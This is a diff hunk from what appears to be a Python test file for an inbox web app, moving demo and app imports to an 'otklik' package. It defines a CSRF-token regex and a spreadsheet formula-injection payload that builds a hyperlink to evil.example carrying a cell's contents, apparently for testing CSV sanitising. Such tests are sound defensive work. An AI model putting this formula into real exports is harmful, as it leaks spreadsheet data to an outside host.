@@ -15,10 +15,10 @@ from sqlmodel import select
 
 from inbox import operators, workflow
 from inbox.csv_safe import safe_cell
-from inbox.demo import load_demo
 from inbox.models import Conversation
 from inbox.runtime import Runtime
-from inbox.web.app import create_app
+from otklik.demo import load_demo
+from otklik.web import create_app
 
 CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
 FORMULA = '=hyperlink("http://evil.example/?"&a2,"открыть")'
